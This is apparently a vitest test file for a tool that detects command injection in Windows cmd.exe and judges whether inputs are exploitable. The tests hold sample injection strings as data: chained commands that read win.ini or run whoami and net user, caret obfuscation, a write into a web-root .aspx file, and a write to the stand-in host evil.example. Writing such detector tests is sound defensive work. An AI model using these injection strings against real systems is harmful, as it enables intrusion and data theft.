import { describe, expect, it } from 'vitest';
import { runOracle } from '../index';
import { cmdContexts } from './cmd';
import { expandPercent, parseCmd } from './cmd-parse';

const hit = (p: string) => cmdContexts(p).filter((c) => c.exploitable).map((c) => `${c.name}: ${c.detail}`).join('\n');

describe('cmd.exe parsing phases', () => {
  it('expands %VAR% and its substring form; undefined names stay as written', () => {
    expect(expandPercent('%COMSPEC% %comspec:~-7,3% %NOPE%').text).toBe('C:\\Windows\\system32\\cmd.exe cmd %NOPE%');
  });
  it('carets escape outside quotes, quotes keep operators literal, ( ) only group at a command start', () => {
    expect(parseCmd('type a ^& b').map((c) => c.name)).toEqual(['type']);
    expect(parseCmd('type "a & b"').map((c) => c.name)).toEqual(['type']);
    expect(parseCmd('type a & w^h^o^a^m^i').map((c) => c.name)).toEqual(['type', 'whoami']);
    expect(parseCmd('type budget (again) for now').map((c) => c.name)).toEqual(['type']);
    expect(parseCmd('type x & (whoami & ver)').map((c) => c.name)).toEqual(['type', 'whoami', 'ver']);
  });
  it('a line feed ends the command line', () => {
    expect(parseCmd('type a\n& whoami').map((c) => c.name)).toEqual(['type']);
  });
});

describe('command injection on cmd.exe', () => {
  it.each([
    ['report.txt & type C:\\Windows\\win.ini', /runs type C:\\Windows\\win.ini/],
    ['x | whoami', /runs whoami/],
    ['x && w^h^o^a^m^i', /runs whoami/],
    ['x || net user', /runs net user/],
    ['x & %COMSPEC% /c dir', /runs cmd \/c dir.*expands %COMSPEC%/],
    ['a" & ipconfig /all & "', /double-quoted argument: runs ipconfig/],
    ['x > C:\\inetpub\\wwwroot\\s.aspx', /writes C:\\inetpub\\wwwroot\\s.aspx/],
    ['x & echo hi > \\\\evil.example\\s\\a', /UNC share/],
    ['x < C:\\Windows\\win.ini', /feeds C:\\Windows\\win.ini \(a sensitive file\)/],
    ['x+%26+systeminfo', /\(form-decoded\): runs systeminfo/],
  ])('%j → exploit, naming what runs', (p, why) => {
    expect(hit(p)).toMatch(why);
  });
  it.each(['AT&T', 'Q&A', 'Time & Date', 'find & replace', 'Tom & Jerry', '#include <stdio.h>', '<b>bold</b>', '50% off', 'budget (again) for the third time.'])(
    'benign %j → improbable',
    (p) => {
      expect(hit(p)).toBe('');
    },
  );
  it('the verdict names cmd as the stack; a Windows target is judged on cmd and PowerShell, a Linux one on sh only', async () => {
    const win = await runOracle('command_injection', 'report.txt & type C:\\Windows\\win.ini', { os: 'windows' });
    expect(win).toMatchObject({ verdict: 'exploit_possible', stacks: ['cmd', 'powershell'] });
    expect(win.confirmedOn).toContain('cmd');
    const linux = await runOracle('command_injection', 'report.txt & type C:\\Windows\\win.ini', { os: 'linux' });
    expect(linux).toMatchObject({ verdict: 'exploit_improbable', stacks: ['sh'] });
    const unknown = await runOracle('command_injection', 'x; id');
    expect(unknown).toMatchObject({ stacks: ['sh', 'cmd', 'powershell'], confirmedOn: ['sh'] });
  });
});
